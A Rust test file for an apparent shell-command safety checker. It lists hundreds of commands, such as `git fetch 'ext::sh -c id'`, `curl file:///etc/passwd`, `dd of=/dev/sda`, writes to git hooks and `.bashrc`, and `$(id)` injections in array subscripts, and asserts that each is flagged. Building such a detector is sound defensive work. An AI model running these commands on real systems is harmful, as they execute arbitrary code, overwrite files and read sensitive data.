//! Commands that use a trapdoor, by program, in several spellings.

use super::open;

const TRAPDOORS: &str = r#"
find . -exec touch /tmp/p '{}' +
find . -delete
find . -fprintf /tmp/x '%p'
git grep -O/tmp/x foo
git grep -nO/tmp/x foo
git grep --open=/tmp/x foo
git log --output=/etc/x
git log --outp /etc/x
git diff --ext-diff
rg --pre=/tmp/x foo
rg --pre /tmp/x foo
sed '1e id' x
sed -n 'w /tmp/x' y
sort -o /etc/x y
sort -uo x y
sort -uox y
sort y -o x
sort --outp=x y
sort --compress-program=/tmp/x y
sort --comp /tmp/x y
sort -k -- -o x
tar xf x --to-command=/tmp/x
tar xf x --to-com=/tmp/x
tar cf a b --checkpoint=1 --checkpoint-action=exec=/tmp/x
tar cfI x
tar cfI a.tar /tmp/x b
tar -xI/tmp/x -f a
tar -x -C /etc -f a
tar xCf /etc a
tar cf host:a b
man -P /tmp/x ls
man -P/tmp/x ls
man --pager=/tmp/x ls
go test -exec /tmp/x
go test --exec=/tmp/x
go build -toolexec x
go run .
go generate ./...
go build -o /tmp/x
cargo --config 'build.rustc-wrapper="/tmp/x"' build
cargo build --config x
cargo run
cargo +nightly run
cargo install x
cargo foo
git -c core.pager=x log
git --config-env=a=b log
git --exec-path=/tmp log
git config core.pager x
git config set core.pager x
git config --add core.pager x
git config alias.x '!id'
git config --global --get-all x --unset
git rebase -x id HEAD~1
git rebase --exec=id HEAD~1
git rebase --exe id HEAD~1
git rebase --ex id HEAD~1
tar --use=id -cf x y
tar cf /tmp/x b
tar -czf ../x b
tar -rf ../x y
tar --create --file=/tmp/x y
cp -at/tmp a b
mv -ft/tmp a
cp -r ../evil/.git .
cp -r ../evil/. .
cp -a evil/. ./
printf '%d' 'path[$(id)]'
printf '%5.*f' 'path[$(id)]' 1
exit 'path[$(id)]'
cargo rustc -- -Clinker=./x
git --work-tree=/tmp checkout -- f
git --work-tree /tmp checkout -- f
git interpret-trailers --in-place x
git read-tree --index-output=/tmp/x HEAD
tar --info=id -cf x y
git rebase -ix id HEAD~1
git bisect run id
git submodule foreach id
git submodule --quiet foreach id
git filter-branch --tree-filter id
git fetch 'ext::sh -c id'
git clone 'ext::sh -c id' x
git clone -u /tmp/x a b
git fetch --upload-pack=/tmp/x origin
git push --receive-pack=x origin
git push --exec=x origin
git ls-remote --upload-pack x a
git worktree add ../x
git apply x.patch
git am x
git difftool -x id
git difftool -y
git foo
git lg
git -C sub foo
git archive -o /tmp/x HEAD
git archive --output=/tmp/x HEAD
git format-patch -o /tmp/x HEAD~1
git hook run pre-commit
git clone -c core.sshCommand=x y
git clone --template=/tmp/x y
git init --template=/tmp/x
git diff --textconv
git show --textc
git merge --strategy=evil x
git -c a=b -c c=d commit
fd -x id
fd foo -X id
fd -HIx id
fd --exec-b id
sed 's/a/b/e' f
sed 's/a/b/w x' f
sed 's/a/b/gw x' f
sed -i s/a/b/ f
sed -ni s/a/b/ f
sed -i.bak s/a/b/ f
sed --in-pl s/a/b/ f
sed -f x f
sed -ä p f
sed -nä p f
sed --fil=x f
sed -nf x f
sed -ne '1e id' f
sed -n -e p -e 'w /tmp/x' f
sed -e 'i\' -e 'x' -e 'e id' f
sed '$!{p;e id' f
sed 'y/a/b/;e' f
sed ':a;s/x/y/;ta;e' f
sed 's,a,b,;W x' f
sed '/x/I,+3w y' f
sed --expression='1e id' f
sed --exp '1e id' f
awk 'BEGIN{system("id")}'
awk '{print | "sh"}' f
awk '{print > "/tmp/x"}' f
awk '{print $1 >> "x"}' f
awk -f x f
awk --file=x f
awk -F: -f x f
awk -i inplace '{print}' f
gawk -l x 'BEGIN{}' 
awk 'BEGIN{"id"|getline x}'
awk 'BEGIN{while(("id")|getline)print}'
gawk 'BEGIN{f="system";@f("id")}'
awk 'if(1) /"/; system("id") ; /"/'
awk -v x=1 'BEGIN{system("id")}'
awk -- 'BEGIN{system("id")}'
awk --foo bar 'BEGIN{system("id")}'
gawk -e 'BEGIN{system("id")}'
tee /etc/x
tee -a ~/.bashrc
tee .git/hooks/pre-commit
tee ../x
cp a /etc/x
cp -t /etc a
cp a ~/.bashrc
cp --target-directory=/etc a
mv a /etc
mv /etc/x a
ln -s /etc x
install -m 755 a /usr/bin/x
dd if=a of=/dev/sda
curl -o x https://y
curl -sSLo x https://y
curl -O https://x
curl -K x
curl --config x
curl --outp x https://y
curl -T x https://y
curl file:///etc/passwd
wget -O x https://y
curl -o/dev/nullx y
curl --output=/dev/null/x y
curl -o -x y
sed -i /dev/null
sed --in-place=/dev/null p f
wget --output-doc=x https://y
wget -e use_askpass=x y
wget --use-askpass=/tmp/x y
jq -f x y
jq --from-file x y
jq -nf x
vi f +'!id'
vim -c '!id' f
vim --cmd '!id' f
less '+!id' f
less -o x f
more '+!id' f
printf -v 'a[$(id)]' x
test -v 'a[$(id)]'
[ -v 'a[$(id)]' ]
test 'a[$(id)]' -eq 1
read 'a[$(id)]'
read -a x
export FOO=bar
export PATH=/tmp
declare -i x
declare 'a[$(id)]=1'
unset 'a[$(id)]'
local x=1
eval 'id'
eval id
source x.sh
. ./x
hash -p /tmp/x ls
enable -f x y
complete -C id x
compgen -C id
bind -x '"a":id'
mapfile -C id -c 1 x
readarray -tC id x
fc -e id
xargs rm
xargs -n1 rm
xargs -I{} sh -c '{}'
parallel rm
parallel -j4 rm
env ls
env FOO=1 git log
env -S 'id x'
timeout 5 rm x
timeout -k 5 5 rm x
nice rm
nice -n 5 rm
nohup rm
sudo ls
sudo -u root ls
ssh -o ProxyCommand=id host
ssh -oProxyCommand=id host
ssh host -o ProxyCommand=id
ssh -F x host
scp -S /tmp/x a b:c
scp -o ProxyCommand=id a b:c
rsync -e 'sh -c id' a b:c
rsync -ave x a b:c
rsync --rsh=x a b:c
rsync --rsync-path=x a b:c
make -f x
make -sf x
make --file=x
make --eval='$(shell id)'
make SHELL=/tmp/x
make CC=/tmp/x
make 'X=$(shell id)'
make -C /tmp/evil
npm exec x
npm x y
npm run evil
npm run-script evil
npm --script-shell=/tmp/x test
npm test --script-shell /tmp/x
npm config set x y
npm install git+https://evil
npm install /tmp/x
pnpm dlx x
pnpm exec x
yarn dlx x
yarn evil
bun x y
bunx y
npx y
pytest -p evil
pytest -pevil
pytest -qp evil
pytest -c x
pytest --rootdir=/tmp
pytest --rootd /tmp
pytest -o x=y
python3 -c 'x'
python3 -Ic x
python3 -m http.server
python3 -mfoo
python3 -Bm foo
python3 -m pytest -p evil
python3
python3 -
python3 /dev/stdin
python3 -i x.py
node -e x
node -p x
node --eval=x
node -r ./x y.js
node --require=./x y.js
node --import x y.js
node
ruby -e x
ruby -ne x f
ruby -rfoo x.rb
perl -e x
perl -ne x f
perl -pi -e s/a/b/ f
perl -lane 'print' f
perl -Mfoo x.pl
php -r x
php -d auto_prepend_file=x y.php
lua -e x
deno eval x
deno run x.ts
bash -c x
bash -lc x
bash -xc x
bash -s
bash
bash --rcfile x y
bash -i
zsh -c x
docker run x
docker exec x y
docker -H tcp://x ps
docker -H tcp://x run y
docker --host=x run y
docker container exec x y
docker compose exec x y
docker compose -f x up
docker cp a b
docker foo
kubectl exec x -- y
kubectl -n foo exec x -- y
kubectl --kubeconfig=x get pods
kubectl get pods --kubeconfig x
kubectl foo
kubectl apply -f x
kubectl delete pod x
psql -c '\! id'
psql -f x
psql -c 'copy t to program $$id$$'
psql -o x -c 'select 1'
psql
sqlite3 x '.shell id'
sqlite3 x ".output y"
sqlite3 x "select writefile('a','b')"
sqlite3 x
sqlite3 -cmd '.shell id' x 'select 1'
mysql -e '\! id'
mysql -e 'system id'
mysql
zip -TT id -T a b
zip a b -T -TT id
zip -rTT id a b
zip --unzip-command=id a b
unzip x -d /etc
7z x a -o/etc
ffmpeg -y -i a b
ffmpeg -i a /etc/x
openssl enc -in a -out /etc/x
openssl req -engine x
openssl version -engine x
gpg --photo-viewer x
gpg -o x y
cmake -P x
cmake -E rm x
ninja -f x
bazel run x
bazel build --run_under=x y
bazel --bazelrc=x build y
terraform apply
terraform -chdir=/x plan
terraform console
systemctl start x
systemctl edit x
crontab x
crontab -
crontab -e
at now
at -f x now
watch id
strace ls
strace -o x ls
gdb -ex x
flock x id
busybox sh
split --filter=id f
script -c id
tcpdump -z id -w x
nmap --script=x y
gh alias set x '!id'
gh api -X DELETE x
gh extension install x
hg --config x=y log
svn diff --diff-cmd x
java -javaagent:x y
java -cp x Evil
mvn -f /x test
gcc -wrapper x a.c
rustc -C linker=x a.rs
ruff check --config x
uv run x
uvx x
poetry run x
helm install x y
yq -i .a=1 f
date -s x
ip netns exec x y
xxd a /etc/x
patch -e x
patch -o /etc/x a b
go test -coverprofile=/etc/x ./...
go test -coverprofile /etc/x ./...
go test -trace ../x
gcc a.c -o/etc/x
gcc -o ~/.bashrc a.c
pytest --cov-report=xml:/etc/x
psql -c '\d `id`'
psql -c '\d \! id'
docker volume rm x
docker context use x
docker --log-level debug exec x y
git --zzz --yyy a b config c.d e
xargs --replace rm
yarn -w evil
timeout --zzz 5 rm x
sort -k -- -o x
tar --zzz -- -I x
"#;

#[test]
fn each_uses_a_trapdoor_that_a_rule_for_the_program_does_not_spell() {
    for line in TRAPDOORS.trim().lines() {
        assert_ne!(open(line), Vec::<String>::new(), "{line}");
    }
}

/// With a newline in the script.
#[test]
fn scripts_of_several_lines() {
    for line in [
        "sed '$!{p;e id\n}' f",
        "sed 'a x\\\ny\ne id' f",
        "sed '/x/{p\nw y\n}' f",
        "awk '{print a,\n b > \"f\"}'",
        "awk '{x\nsystem(y)}'",
    ] {
        assert_ne!(open(line), Vec::<String>::new(), "{line}");
    }
    for line in [
        "sed 'a x\\\ne id' f",
        "sed '/x/{p\nd\n}' f",
        "awk '{\n  print $1\n}' f",
    ] {
        assert_eq!(open(line), Vec::<String>::new(), "{line}");
    }
}
